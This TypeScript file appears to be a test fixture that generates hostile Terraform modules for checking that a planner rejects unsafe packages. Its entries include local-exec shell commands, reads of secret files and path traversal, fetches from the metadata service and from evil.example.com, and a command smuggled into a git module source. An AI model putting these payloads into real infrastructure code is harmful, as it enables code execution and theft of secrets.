type Trap = { secretFile: string; mark: string; url: string };
type Hostile = { name: string; files: Record<string, string> };

/** Packages that are pinned and hosted as they should be, and would run, read or reach something when a root with them is planned. */
export function hostileModules({ secretFile, mark, url }: Trap): Hostile[] {
  const up = "../".repeat(8);
  const one = (name: string, text: string, more: Record<string, string> = {}): Hostile => ({
    name,
    files: { "main.tf": text, ...more },
  });
  const run = `["/bin/sh", "-c", "touch ${mark}"]`;
  const module = (source: string, version = "") => `module "x" {\n  source = "${source}"\n${version}}\n`;
  return [
    one("an external program", `data "external" "x" { program = ${run} }\n`),
    one("one in a module of its own", module("./in"), {
      "in/main.tf": `data "external" "x" { program = ${run} }\n`,
    }),
    one(
      "a provisioner",
      `resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "touch ${mark}" }\n}\n`,
    ),
    one("a provider that runs a program", `provider "kubernetes" {\n  exec { command = "/bin/sh" }\n}\n`),
    one("a shell script", `data "shell_script" "x" {\n  lifecycle_commands { read = "touch ${mark}" }\n}\n`),
    one("a file of the machine", `output "x" { value = file("${secretFile}") }\n`),
    one("a file above", `output "x" { value = file("\${path.module}/${up}${secretFile.slice(1)}") }\n`),
    one(
      "a file by a variable",
      `variable "p" { default = "${secretFile}" }\noutput "x" { value = file(var.p) }\n`,
    ),
    one("a template of the machine", `output "x" { value = templatefile("${secretFile}", {}) }\n`),
    one("a file in a template", `output "x" { value = templatefile("\${path.module}/t.tpl", {}) }\n`, {
      "t.tpl": `\${file("${secretFile}")}`,
    }),
    one("an address", `data "http" "x" { url = "${url}" }\n`),
    one(
      "a state elsewhere",
      `data "terraform_remote_state" "x" {\n  backend = "http"\n  config = { address = "${url}" }\n}\n`,
    ),
    one(
      "a state in a file",
      `data "terraform_remote_state" "x" {\n  backend = "local"\n  config = { path = "${secretFile}" }\n}\n`,
    ),
    one("a module of the machine", module("/etc")),
    one("a module by http", module(`${url}x.zip`)),
    one("a module of a foreign registry", module("evil.example.com/a/b/c", '  version = "1.0.0"\n')),
    one("a module of a foreign repository", module("git::https://evil.example.com/a.git?ref=v1.0.0")),
    one("a module of a local repository", module(`git::file://${secretFile}?ref=v1.0.0`)),
    one("a module by a program of git", module(`git::ext::sh -c touch% ${mark}?ref=v1.0.0`)),
    one("a module by ssh", module("git::ssh://git@127.0.0.1/a.git?ref=v1.0.0")),
    one(
      "a module of the metadata service",
      module(`https://169.254.169.254/x.zip?checksum=sha256:${"0".repeat(64)}`),
    ),
    one("a module of S3", module("s3::https://s3.amazonaws.com/b/m.zip")),
    one("a range", module("terraform-aws-modules/vpc/aws", '  version = "~> 5.0"\n')),
    one("a module outside of its package", module("../../../net")),
    one("a text that is not clear", `resource "x" "y" {\n`),
    one("a path that leaves the archive", "locals {}\n", { "../../escape.tf": "locals {}\n" }),
    one(
      "a state kept elsewhere, which a module has none of",
      `terraform {\n  backend "http" { address = "${url}" }\n}\n`,
    ),
    one("a cloud", `terraform {\n  cloud { organization = "evil" }\n}\n`),
    one(
      "a foreign provider",
      `terraform {\n  required_providers {\n    x = { source = "evil/x" }\n  }\n}\nresource "x_y" "z" {}\n`,
    ),
  ];
}
